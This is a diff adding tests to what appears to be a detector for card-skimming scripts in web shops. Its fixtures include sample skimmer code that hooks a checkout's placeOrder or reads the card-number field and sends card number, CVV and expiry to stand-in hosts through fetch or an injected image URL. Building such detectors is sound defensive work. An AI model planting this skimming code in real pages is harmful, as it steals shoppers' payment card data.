@@ -599,3 +599,74 @@ describe('a member of what a helper is given holds the address its callers write
     expect(v.findings.map((f) => f.message).join('\n')).not.toContain('a computed URL')
   })
 })
+
+describe("card data read off the page's own objects", () => {
+  // a wrapper of a checkout component's placeOrder, reading the payment data it is given
+  const hook = (
+    send: string,
+  ) => `var proto = window.PaymentComponent.prototype, original = proto.placeOrder
+    proto.placeOrder = function (data) {
+      var ad = data.additional_data || {}
+      var body = JSON.stringify({ n: ad.cc_number, c: ad.cc_cid, m: ad.cc_exp_month })
+      ${send}
+      return original.apply(this, arguments)
+    }`
+  it('sent to a named foreign host is card data leaving', () => {
+    const v = analyzeScript(
+      hook(
+        "fetch('https://api.latency-probe.example/v1', { method: 'POST', mode: 'no-cors', body: btoa(body) })",
+      ),
+    )
+    expect(v.verdict).toBe('malicious')
+    expect(
+      rules(
+        hook(
+          "fetch('https://api.latency-probe.example/v1', { method: 'POST', mode: 'no-cors', body: btoa(body) })",
+        ),
+      ),
+    ).toContain('card-field-read-and-send')
+  })
+  it("sent to an address worked out at run time (a tokenizer's API), it is not", () => {
+    expect(
+      rules(hook('fetch(this.config.apiBase + "/tokens", { method: "POST", body: body })')),
+    ).not.toContain('card-field-read-and-send')
+  })
+  it('a member merely named like a setting of expiry is no card data', () => {
+    expect(
+      rules(
+        hook(
+          "fetch('https://api.latency-probe.example/v1', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify({ e: data.cookie_expiration })) })",
+        ).replace(/var body = .*\n/, ''),
+      ),
+    ).not.toContain('card-field-read-and-send')
+  })
+})
+
+describe('markup written into the page that fetches (innerHTML, insertAdjacentHTML)', () => {
+  const write = (
+    how: string,
+  ) => `document.querySelector('#pay').addEventListener('click', function () {
+      var n = document.querySelector('input[autocomplete="cc-number"]').value
+      var box = document.querySelector('footer')
+      ${how} })`
+  it('an <img> naming a foreign host, the card in its address, is a send there', () => {
+    for (const how of [
+      `box.insertAdjacentHTML('beforeend', '<img src="https://px.swatch-media.example/1.gif?d=' + btoa(n) + '" width="1">')`,
+      `box.innerHTML = '<img alt="" src="https://px.swatch-media.example/1.gif?d=' + btoa(n) + '">'`,
+    ]) {
+      const v = analyzeScript(write(how))
+      expect(v.verdict, how).toBe('malicious')
+      expect(v.findings.map((f) => f.message).join('\n')).toContain(
+        'https://px.swatch-media.example/1.gif',
+      )
+    }
+  })
+  it("an icon from the shop's own path carries nothing typed", () => {
+    const v = analyzeScript(
+      write(
+        `box.insertAdjacentHTML('beforeend', '<img src="/media/icons/lock.svg" alt="secure">')`,
+      ),
+    )
+    expect(v.verdict).toBe('clean')
+  })
+})
